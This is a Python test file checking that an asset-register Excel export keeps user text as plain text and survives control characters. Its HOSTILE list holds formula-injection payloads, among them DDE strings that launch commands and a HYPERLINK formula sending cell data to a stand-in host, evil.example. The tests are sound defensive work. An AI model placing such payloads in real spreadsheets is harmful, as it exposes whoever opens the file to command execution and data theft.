"""Excel exports keep people's text as text: never a live formula (CWE-1236), never a failed
export because of a character a workbook cannot hold."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest

from models.spreadsheets import SheetColumn, write_xlsx
from models.support import asset_io, assets
from models.support.assets import Asset, AssetFilter, AssetKind

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+41+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    sheet = openpyxl.load_workbook(path).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_write_xlsx_never_writes_a_formula(tmp_path: Path) -> None:
    path = write_xlsx(
        tmp_path / "x.xlsx",
        title="=TITLE()",
        subtitle="@sub",
        columns=[SheetColumn("=A"), SheetColumn("B")],
        rows=[[text, 12.5] for text in HOSTILE],
        sheet_name="ทะเบียน",
    )
    cells = _cells(path)
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for text in HOSTILE:
        assert text in texts  # exactly as typed
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
            assert cell.data_type == "s" and cell.quotePrefix
    assert [c.value for c in cells if isinstance(c.value, float)] == [12.5] * len(HOSTILE)


def test_asset_export_keeps_hostile_texts_as_typed(sqlite_db, make_user, tmp_path: Path) -> None:
    staff = make_user("staff")
    for n, text in enumerate(HOSTILE, start=1):
        assets.save_asset(
            staff,
            None,
            {
                "kind": AssetKind.HARDWARE,
                "number": f"7440-001-{n:04d}/65",
                "name": text,
                "brand": text,
                "location": text,
                "notes": text,
            },
        )
    path = tmp_path / "assets.xlsx"
    assert asset_io.export_assets(AssetFilter(), path) == len(HOSTILE)
    cells = _cells(path)
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    for text in HOSTILE:
        assert values.count(text) == 4  # name, brand, location, notes


@pytest.mark.parametrize("stored", ["เครื่อง\x07พิมพ์", "a\x00b", "x\x1by"])
def test_export_never_fails_on_stored_text(
    sqlite_db, make_user, tmp_path: Path, stored: str
) -> None:
    """Text saved before entry refused control characters (or written by another program)."""
    staff = make_user("staff")
    asset = assets.save_asset(
        staff, None, {"kind": AssetKind.HARDWARE, "number": "7440-001-0001/65", "name": "ปกติ"}
    )
    Asset.update(notes=stored).where(Asset.id == asset.id).execute()  # bypassing the checks
    path = tmp_path / "assets.xlsx"
    assert asset_io.export_assets(AssetFilter(), path) == 1
    notes = [c.value for c in _cells(path) if isinstance(c.value, str) and ("ปกติ" not in c.value)]
    assert any(("␇" in v or "␀" in v or "␛" in v) for v in notes)


def test_lone_surrogates_become_the_replacement_character(tmp_path: Path) -> None:
    path = write_xlsx(
        tmp_path / "s.xlsx",
        title="t",
        subtitle="s",
        columns=[SheetColumn("A")],
        rows=[["ก\ud800ข"]],
        sheet_name="s",
    )
    assert "ก\ufffdข" in [c.value for c in _cells(path)]
